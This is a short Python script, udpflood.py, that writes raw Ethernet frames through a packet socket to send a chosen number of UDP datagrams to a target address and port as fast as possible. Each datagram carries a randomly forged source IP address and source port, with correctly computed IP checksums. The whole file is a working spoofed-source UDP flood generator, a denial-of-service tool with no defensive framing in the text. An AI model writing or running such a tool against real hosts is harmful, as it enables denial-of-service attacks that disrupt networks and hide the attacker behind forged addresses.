#!/usr/bin/env python3
"""So many small UDP datagrams, each from a source that does not exist, as fast as a raw socket takes them, and no more:

  udpflood.py IFACE DMAC ADDR PORT COUNT SEED

Prints {"sent"}."""
import json
import random
import socket
import struct
import sys

iface, dmac, addr, port, count, seed = sys.argv[1:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((iface, 0))
smac = open(f"/sys/class/net/{iface}/address").read().strip()
mac = lambda text: bytes(int(part, 16) for part in text.split(":"))
daddr = socket.inet_aton(addr)
rng = random.Random(int(seed))
PAYLOAD = b"flood!"
ethernet = mac(dmac) + mac(smac) + b"\x08\x00"
front = struct.pack("!BBHHHBB", 0x45, 0, 28 + len(PAYLOAD), 0, 0x4000, 64, 17)
ip_sum = sum(struct.unpack("!5H2H", front + daddr))
# A UDP checksum of 0: none.
header = struct.Struct(f"!14s10sHI4sHHHH{len(PAYLOAD)}s")
sent = 0
for _ in range(int(count)):
    # 16.0.0.0 to 95.255.255.255: addresses of hosts.
    saddr = rng.randrange(0x10000000, 0x60000000)
    total = ip_sum + (saddr >> 16) + (saddr & 0xFFFF)
    total = (total & 0xFFFF) + (total >> 16)
    check = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    sport = 1024 + rng.getrandbits(15)
    frame = header.pack(
        ethernet, front, check, saddr, daddr, sport, int(port), 8 + len(PAYLOAD), 0, PAYLOAD
    )
    try:
        out.send(frame)
        sent += 1
    except OSError:
        pass
print(json.dumps({"sent": sent}))
